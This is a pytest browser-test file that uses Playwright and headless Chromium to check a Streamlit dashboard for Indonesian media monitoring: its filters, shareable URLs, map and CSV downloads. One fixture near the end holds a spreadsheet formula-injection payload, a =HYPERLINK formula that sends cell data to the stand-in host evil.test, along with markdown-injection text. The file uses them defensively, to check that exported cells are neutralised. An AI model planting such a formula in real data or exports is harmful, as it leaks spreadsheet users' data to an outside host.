"""A real `streamlit run` server driven by a real headless Chromium (Debian's, via Playwright).

Every request that leaves the machine is blocked and recorded; the test fails if the page asked
for one (newsrooms run this behind firewalls)."""
from __future__ import annotations

import contextlib
import csv
import io
import os
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import duckdb
import pytest

from bench.browser import block_external
from dashboard import geometry

from .conftest import ROOT
from .dashboard_data import build_dashboard_db

CHROMIUM = "/usr/bin/chromium"
pytestmark = pytest.mark.browser

playwright_api = pytest.importorskip("playwright.sync_api")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def _serve(db: Path | str, log: Path, **env_extra: str):
    port = _free_port()
    env = {**os.environ, "MEDIA_DB": str(db), **env_extra}
    with open(log, "wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", "dashboard/app.py", "--server.port", str(port),
             "--server.address", "127.0.0.1", "--server.headless", "true", "--browser.gatherUsageStats", "false"],
            cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT,
        )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.time() + 60
        while True:
            try:
                urllib.request.urlopen(url + "/_stcore/health", timeout=2)
                break
            except OSError:
                if time.time() > deadline or proc.poll() is not None:
                    raise RuntimeError("streamlit did not start:\n" + log.read_text(errors="replace")) from None
                time.sleep(0.5)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()


def _need_chromium() -> None:
    if os.environ.get("MEDIA_BROWSER_SKIP"):  # scripts/test.sh could not install chromium, and says why
        pytest.skip(os.environ["MEDIA_BROWSER_SKIP"])
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} is missing on CI; .ci/run must install Debian's chromium")
        pytest.skip(f"{CHROMIUM} not installed (apt-get install chromium)")


@pytest.fixture(scope="module")
def dash_db(tmp_path_factory) -> Path:
    return build_dashboard_db(tmp_path_factory.mktemp("browser") / "dash.duckdb")


@pytest.fixture(scope="module")
def server(tmp_path_factory, dash_db):
    _need_chromium()
    with _serve(dash_db, tmp_path_factory.mktemp("log") / "streamlit.log") as url:
        yield url


@pytest.fixture(scope="module")
def slow_server(tmp_path_factory, dash_db):
    """The same app, each rerun held 2 s after it read its filters (as on a slow warehouse)."""
    _need_chromium()
    with _serve(dash_db, tmp_path_factory.mktemp("log") / "slow.log", MEDIA_TEST_RERUN_DELAY="2") as url:
        yield url


@pytest.fixture
def browser_pages():
    """Open pages of the app in one headless Chromium; every request off 127.0.0.1 is blocked and
    recorded, and the test fails if there was one."""
    opened = []
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            headless=True,
            args=["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"],
        )
        context = browser.new_context(accept_downloads=True, viewport={"width": 1400, "height": 1000})

        external = block_external(context)

        def open_page(url: str, ready: str = "Matching articles"):
            pg = context.new_page()
            pg.goto(url)
            pg.get_by_text(ready).first.wait_for(timeout=60_000)
            _wait_for_rerun(pg)
            opened.append(pg)
            return pg

        yield open_page
        screenshot = os.environ.get("DASHBOARD_SCREENSHOT")
        if screenshot and opened:
            opened[0].screenshot(path=screenshot, full_page=True)
        browser.close()
    assert external == [], f"the page asked for external resources: {external}"


@pytest.fixture
def page(server, browser_pages):
    return browser_pages(server)


def _wait_for_rerun(pg):
    pg.wait_for_timeout(300)
    pg.locator("[data-testid='stStatusWidget']").wait_for(state="hidden", timeout=30_000)
    pg.wait_for_timeout(500)


def _pick_actor(page, typed: str, name: str) -> None:
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_test_id("stMultiSelect").first.click()
    page.keyboard.type(typed)
    page.get_by_role("option", name=name).first.click()
    page.keyboard.press("Escape")


def _download(page, button: str, tmp_path: Path) -> tuple[str, list[dict]]:
    with page.expect_download() as info:
        page.get_by_role("button", name=button).click()
    path = tmp_path / info.value.suggested_filename
    info.value.save_as(path)
    return info.value.suggested_filename, list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_filter_by_actor_and_dates_then_download_csv(page, tmp_path):
    _filter_by_actor_and_dates_then_download_csv(page, tmp_path)


@pytest.mark.scaleout
def test_the_dashboard_on_a_lake_warehouse(s3_env, dask_scheduler, tmp_path, browser_pages):
    """The same page and the same CSV, from a lake on a local S3 loaded through 2 Dask workers."""
    _need_chromium()
    from etl.load import load_paths

    from .conftest import SEEDS
    from .dashboard_data import FIXTURE_PAGES

    lake = "s3://media/dashboard"
    report = load_paths([SEEDS, FIXTURE_PAGES], db=lake, progress=False, scheduler=dask_scheduler)
    assert report.added == 3 and report.workers == 2
    with _serve(lake, tmp_path / "streamlit.log") as url:  # MEDIA_DB=s3://..., the S3 settings inherited
        _filter_by_actor_and_dates_then_download_csv(browser_pages(url), tmp_path)


def _filter_by_actor_and_dates_then_download_csv(page, tmp_path):
    sidebar = page.get_by_test_id("stSidebar")
    _pick_actor(page, "Wang Xiao", "Wang Xiaohong")
    _wait_for_rerun(page)

    # Streamlit's date range is a react-aria field: one spin button per year, month and day.
    for segment, value in (("year", "2025"), ("month", "01"), ("day", "01")):
        sidebar.get_by_role("spinbutton", name=f"{segment}, Date range start date").click()
        page.keyboard.type(value)
    page.keyboard.press("Escape")
    page.get_by_role("heading", name="Indonesian media monitor").click()  # blur commits the range
    page.get_by_text("Showing items mentioning Wang Xiaohong from 2025-01-01").wait_for(timeout=30_000)
    _wait_for_rerun(page)

    name, rows = _download(page, "Download countries data (CSV)", tmp_path)
    assert name == "countries_2025-01-01_2025-06-10_wang-xiaohong_article_count_week_top10.csv"
    assert rows, "the downloaded CSV is empty"
    assert list(rows[0]) == ["period", "kind", "entity", "entity_code", "items", "all_items", "share"]
    said = {(r["period"], r["entity"], r["entity_code"], r["items"]) for r in rows if r["items"] != "0"}
    assert said == {("2025-06-09", "Tiongkok", "CN", "1")}  # the week of 2025-06-10
    assert len({r["period"] for r in rows}) == 24  # every week of the range, empty ones as 0

    # The table is drawn on a canvas; its caption states the total.
    page.get_by_text("1 article match; showing 1-1").wait_for(timeout=10_000)


def test_download_at_once_after_a_change_gets_the_new_data(slow_server, browser_pages, tmp_path, dash_db):
    """The filter changes, and the button is clicked while the 2 s rerun is still computing: the file
    is the new filters' data under the new filters' name."""
    page = browser_pages(slow_server)
    name, rows = _download(page, "Download countries data (CSV)", tmp_path)
    everyone = {r["entity_code"] for r in rows if r["items"] != "0"}
    assert "all-actors" in name and {"CN", "VN"} <= everyone

    _pick_actor(page, "Wang Xiao", "Wang Xiaohong")
    page.wait_for_timeout(200)  # the rerun has started, and holds 2 s before it draws anything
    # the page still shows the previous run: its caption, its download buttons
    assert page.get_by_text("Showing items mentioning Wang Xiaohong").count() == 0
    name, rows = _download(page, "Download countries data (CSV)", tmp_path)
    assert "wang-xiaohong" in name, name
    # the new filters' data, as the warehouse gives it
    from dashboard import queries

    first, last = queries.default_range(queries.overview(dash_db))
    f = queries.Filters(actors=("Wang Xiaohong",), start=first, end=last, interval=queries.auto_interval(first, last))
    expected = queries.chart(dash_db, f, ("country",)).data
    assert {r["entity_code"] for r in rows if r["items"] != "0"} == set(expected.loc[expected["items"] > 0, "entity_code"])
    assert len(rows) == len(expected) and "VN" not in {r["entity_code"] for r in rows}


def test_a_copied_url_reopens_the_same_view(page, browser_pages, server):
    _pick_actor(page, "Wang Xiao", "Wang Xiaohong")
    _wait_for_rerun(page)
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_text("Share", exact=True).click()
    _wait_for_rerun(page)
    sidebar.get_by_text("Trending sidebar", exact=True).click()
    _wait_for_rerun(page)
    url = page.url
    assert "actor=Wang+Xiaohong&" in url + "&" or "actor=Wang%20Xiaohong&" in url + "&", url

    again = browser_pages(url)
    again.get_by_text("Showing items mentioning Wang Xiaohong").wait_for(timeout=30_000)
    side = again.get_by_test_id("stSidebar")
    assert side.get_by_role("radio", name="Share").is_checked()
    assert side.get_by_role("radio", name="Trending sidebar").is_checked()
    assert "Wang Xiaohong" in side.get_by_test_id("stMultiSelect").first.inner_text()
    assert "% of all trending items" in again.content() or again.get_by_text("Trending headlines").count()


def test_the_picker_offers_the_most_mentioned_first(page, dash_db):
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_test_id("stMultiSelect").first.click()
    page.keyboard.type("a")
    options = page.get_by_role("option").all_inner_texts()
    con = duckdb.connect(str(dash_db), read_only=True)
    items = dict(con.execute("SELECT entity, items FROM entities WHERE kind IN ('person', 'organization')").fetchall())
    con.close()
    assert options and not [o for o in options if o.lower().startswith("select")]  # no select-all
    counts = [items[o] for o in options]
    assert counts == sorted(counts, reverse=True)  # most mentioned first


# --- the analyst's pages: each driven in the browser, its CSV checked against the warehouse ------

def _rows(db: Path, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def _type_into(page, label: str, text: str) -> None:
    box = page.get_by_label(label)
    box.click()
    box.fill(text)
    page.keyboard.press("Control+Enter")  # a text area commits on Ctrl+Enter (or on leaving it)
    _wait_for_rerun(page)


def test_search_page_counts_highlights_and_downloads_what_a_scan_finds(server, browser_pages, tmp_path, dash_db):
    page = browser_pages(server + "/search", ready="How to write a query")
    _type_into(page, "Queries, one per line (up to 5, each its own series)", 'interpol AND (tiongkok OR beijing)\n"harga beras"')
    page.get_by_text("searched as").first.wait_for(timeout=30_000)
    assert "q=interpol" in page.url  # the queries are in the URL
    # the plain scan of the same queries over headline and body
    text = "lower(coalesce(title, '') || ' ' || coalesce(body, ''))"
    want_a = {r[0] for r in _rows(dash_db, f"SELECT article_id FROM articles WHERE regexp_matches({text}, '\\binterpol\\b') "
                                          f"AND regexp_matches({text}, '\\b(tiongkok|beijing)\\b')")}
    want_b = {r[0] for r in _rows(dash_db, f"SELECT article_id FROM articles WHERE regexp_matches({text}, '\\bharga\\s+beras\\b')")}
    assert want_a and want_b
    name, rows = _download(page, "Download the series (CSV)", tmp_path)
    assert name.startswith("search-series_interpol-and-tiongkok-or+harga-beras_2024-11-28_2025-06-10_"), name
    assert list(rows[0]) == ["period", "series", "items", "all_items", "share"]
    totals = {}
    for r in rows:
        totals[r["series"]] = totals.get(r["series"], 0) + int(r["items"])
    assert totals == {"interpol AND (tiongkok OR beijing)": len(want_a), '"harga beras"': len(want_b)}
    # the matching passage is shown with the words marked
    marks = page.locator("small.passage mark").all_inner_texts()
    assert marks and {m.lower() for m in marks} <= {"interpol", "tiongkok", "beijing"}
    name, rows = _download(page, "Download the matching articles (CSV, up to 50,000)", tmp_path)
    assert {r["article_id"] for r in rows} == want_a
    name, rows = _download(page, "Download top actors, countries and topics (CSV)", tmp_path)
    mine = {(r["kind"], r["entity"]) for r in rows if r["series"] == "interpol AND (tiongkok OR beijing)"}
    assert ("person", "Wang Xiaohong") in mine and ("country", "Tiongkok") in mine

    again = browser_pages(page.url, ready="searched as")
    playwright_api.expect(again.get_by_label("Queries, one per line (up to 5, each its own series)")).to_have_value(
        'interpol AND (tiongkok OR beijing)\n"harga beras"', timeout=10_000)


def test_search_page_reports_a_broken_query(server, browser_pages):
    page = browser_pages(server + "/search?q=%28korupsi", ready="How to write a query")
    page.get_by_text("a bracket is opened and never closed").wait_for(timeout=30_000)


def test_compare_page_gives_each_actor_and_query_its_own_series(server, browser_pages, tmp_path, dash_db):
    page = browser_pages(server + "/compare?actor=Wang+Xiaohong&actor=Harda+Kiswaya&cq=interpol", ready="Mentions over time")
    name, rows = _download(page, "Download the comparison (CSV)", tmp_path)
    assert name.startswith("compare_wang-xiaohong+harda-kiswaya+interpol_"), name
    totals = {}
    for r in rows:
        totals[(r["series"], r["what"])] = totals.get((r["series"], r["what"]), 0) + int(r["items"])
    want = dict(_rows(dash_db, """
        SELECT entity, count(DISTINCT article_id) FROM mentions
        WHERE entity IN ('Wang Xiaohong', 'Harda Kiswaya') AND part <> 'trending' GROUP BY entity"""))
    interpol = _rows(dash_db, "SELECT count(*) FROM articles WHERE regexp_matches(lower(title || ' ' || body), '\\binterpol\\b')")[0][0]
    assert totals == {("Wang Xiaohong", "actor"): want["Wang Xiaohong"], ("Harda Kiswaya", "actor"): want["Harda Kiswaya"],
                      ("interpol", "query"): interpol}


def test_profile_page_shows_one_actor_with_its_evidence(server, browser_pages, tmp_path, dash_db):
    page = browser_pages(server + "/profile?actor=Wang+Xiaohong", ready="Evidence: the sentences that mention it")
    page.get_by_role("heading", name="Wang Xiaohong (person)").wait_for(timeout=30_000)
    name, rows = _download(page, "Download the evidence (CSV)", tmp_path)
    assert name.startswith("profile-evidence_wang-xiaohong_"), name
    urls = {r[0] for r in _rows(dash_db, """
        SELECT DISTINCT a.url FROM mentions AS m JOIN articles AS a USING (article_id)
        WHERE m.entity = 'Wang Xiaohong' AND m.part <> 'trending'""")}
    assert rows and {r["url"] for r in rows} == urls
    assert all("Wang" in r["sentence"] for r in rows)
    name, rows = _download(page, "Download what comes with it (CSV)", tmp_path)
    outlets = {r["entity"]: int(r["articles"]) for r in rows if r["kind"] == "outlet"}
    assert outlets == dict(_rows(dash_db, """
        SELECT outlet, count(DISTINCT article_id) FROM mentions
        WHERE entity = 'Wang Xiaohong' AND part <> 'trending' GROUP BY outlet"""))
    name, rows = _download(page, "Download mentions over time (CSV)", tmp_path)
    assert sum(int(r["items"]) for r in rows if r["source"] == "article") == sum(outlets.values())


def test_profile_page_without_an_actor_offers_the_most_mentioned(server, browser_pages):
    page = browser_pages(server + "/profile", ready="Pick an actor in the sidebar")
    assert page.get_by_role("link", name="Tiongkok").count() == 0  # a country is no actor to profile
    assert page.get_by_role("link", name="Wang Xiaohong").count() == 1


def test_trending_page_tracks_an_outlets_sidebar(server, browser_pages, tmp_path, dash_db):
    page = browser_pages(server + "/trending?sidebar_of=example.test", ready="How long example.test")
    name, rows = _download(page, "Download the headlines (CSV)", tmp_path)
    want = _rows(dash_db, "SELECT headline, days, best_rank FROM trending_headlines WHERE outlet = 'example.test'")
    assert sorted((r["headline"], int(r["days"]), int(r["best_rank"])) for r in rows) == sorted(want)
    named = {r["headline"]: r["actors"] for r in rows}
    assert named["Wali Kota Yogyakarta Hasto Wardoyo Resmikan Taman Baru di Kotabaru"] == "Hasto Wardoyo"
    name, rows = _download(page, "Download the trajectories (CSV)", tmp_path)
    assert rows and {r["headline"] for r in rows} <= {w[0] for w in want}
    assert all(1 <= int(r["rank"]) <= 5 for r in rows)
    name, rows = _download(page, "Download trending against coverage (CSV)", tmp_path)
    assert {"kind", "entity", "trending_items", "articles", "gap_points"} <= set(rows[0])


def test_map_page_draws_countries_offline_and_places_by_province(server, browser_pages, tmp_path, dash_db):
    page = browser_pages(server + "/map", ready="Countries mentioned")
    page.locator(".js-plotly-plot").first.wait_for(timeout=30_000)
    page.locator("canvas").first.wait_for(timeout=30_000)  # the map is drawn (MapLibre's canvas)
    screenshot = os.environ.get("MAP_SCREENSHOT")
    if screenshot:
        page.wait_for_timeout(1500)
        page.screenshot(path=screenshot)
    name, rows = _download(page, "Download countries (CSV)", tmp_path)
    want = dict(_rows(dash_db, """
        SELECT entity_code, count(DISTINCT article_id) FROM mentions
        WHERE kind = 'country' AND part <> 'trending' GROUP BY entity_code"""))
    assert {r["iso_a2"]: int(r["items"]) for r in rows} == want
    # Hong Kong is too small for the 1:110m shapes: listed, not drawn
    assert {r["iso_a2"] for r in rows if r["on_map"] == "False"} == set(want) - geometry.codes() == {"HK"}
    name, rows = _download(page, "Download places by province (CSV)", tmp_path)
    by_place = {(r["province"], r["place"]): int(r["items"]) for r in rows}
    want = _rows(dash_db, """
        SELECT e.region, m.entity, count(DISTINCT m.article_id) FROM mentions AS m JOIN entities AS e USING (entity_id)
        WHERE m.kind = 'place' AND m.part <> 'trending' AND m.entity_code = 'ID' AND e.region IS NOT NULL GROUP BY ALL""")
    assert want and {(p, e): n for p, e, n in want}.items() <= by_place.items()
    assert by_place[("DI Yogyakarta", "Sleman")] == 1  # its article; the trending headline naming it is not article text


def test_outlets_page_splits_the_selection_by_outlet(server, browser_pages, tmp_path, dash_db):
    page = browser_pages(server + "/outlets?actor=Wang+Xiaohong", ready="Each outlet's share")
    name, rows = _download(page, "Download per outlet over time (CSV)", tmp_path)
    per = {}
    for r in rows:
        per[r["outlet"]] = per.get(r["outlet"], 0) + int(r["items"])
    assert per == dict(_rows(dash_db, """
        SELECT outlet, count(DISTINCT article_id) FROM mentions
        WHERE entity = 'Wang Xiaohong' AND part <> 'trending' GROUP BY outlet"""))


def test_the_filters_follow_the_user_from_page_to_page(page, browser_pages):
    _pick_actor(page, "Wang Xiao", "Wang Xiaohong")
    _wait_for_rerun(page)
    page.get_by_role("link", name="Outlets").click()
    page.get_by_text("Each outlet's share").wait_for(timeout=30_000)
    _wait_for_rerun(page)
    assert "/outlets" in page.url and "actor=Wang" in page.url, page.url
    assert "Wang Xiaohong" in page.get_by_test_id("stSidebar").get_by_test_id("stMultiSelect").first.inner_text()


# --- text stays text (issue 11) ------------------------------------------------------------------

HOSTILE_OUTLET = "**x** $y$ :red[z] :material/warning:"
HOSTILE_TITLE = '=HYPERLINK("http://evil.test/leak?x="&A1,"Presiden Joko Widodo")'


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    _need_chromium()
    from etl.load import load_paths

    folder = tmp_path_factory.mktemp("hostile")
    with open(folder / "hostile.csv", "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["title", "content", "date", "source"])
        w.writerow([HOSTILE_TITLE, "Presiden Joko Widodo meresmikan jembatan di Jakarta.", "2025-05-01", HOSTILE_OUTLET])
        w.writerow(["+62 Presiden Joko Widodo ke Bandung", "Presiden Joko Widodo tiba di Bandung.", "2025-05-02", HOSTILE_OUTLET])
        w.writerow(["@Jokowi di Surabaya", "Presiden Joko Widodo tiba di Surabaya.", "2025-05-03", HOSTILE_OUTLET])
    db = folder / "hostile.duckdb"
    load_paths([folder / "hostile.csv"], db=db, progress=False)
    with _serve(db, tmp_path_factory.mktemp("log") / "hostile.log") as url:
        yield url


def test_text_from_the_data_shows_literally_and_csv_cells_never_start_a_formula(hostile_server, browser_pages, tmp_path):
    from urllib.parse import quote_plus

    page = browser_pages(f"{hostile_server}/?outlet={quote_plus(HOSTILE_OUTLET)}")
    page.get_by_text("Showing items from").first.wait_for(timeout=30_000)
    captions = [t.replace("\u2060", "") for t in page.get_by_test_id("stCaptionContainer").all_inner_texts()]
    assert any(f"from {HOSTILE_OUTLET}." in t for t in captions), captions  # literally (the word joiner is invisible)
    assert page.locator(".katex").count() == 0
    assert page.locator("[data-testid='stCaptionContainer'] [data-testid='stIconMaterial']").count() == 0
    page.get_by_text(HOSTILE_TITLE).first.wait_for(timeout=30_000)  # the article's title, as typed
    name, rows = _download(page, "Download all 3 articles (CSV)", tmp_path)
    raw = (tmp_path / name).read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(raw)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    titles = {r["title"] for r in rows}
    assert "'" + HOSTILE_TITLE in titles and "'+62 Presiden Joko Widodo ke Bandung" in titles


def test_the_dashboard_shows_the_last_load_while_the_next_runs(tmp_path_factory, browser_pages):
    """A load writes the warehouse; the page keeps showing the previous load's data (the published
    snapshot), and the new data once the load has finished."""
    _need_chromium()
    from .test_concurrency import _load, write_rows

    folder = tmp_path_factory.mktemp("during")
    db = build_dashboard_db(folder / "w.duckdb")
    with _serve(db, folder / "streamlit.log") as url:
        load = _load([write_rows(folder / "more.csv", 8000)], db)  # long enough to look at the page meanwhile
        try:
            time.sleep(2.0)
            assert load.poll() is None, "the load ended too soon to test anything"
            page = browser_pages(url)
            page.get_by_text("3 articles (3 dated").wait_for(timeout=60_000)
            assert page.get_by_text("A load is writing").count() == 0
            assert load.poll() is None, "the page was read after the load had ended"
        finally:
            out, err = load.communicate(timeout=600)
        assert load.returncode == 0, err
        page = browser_pages(url)
        page.get_by_text("8,003 articles").first.wait_for(timeout=60_000)
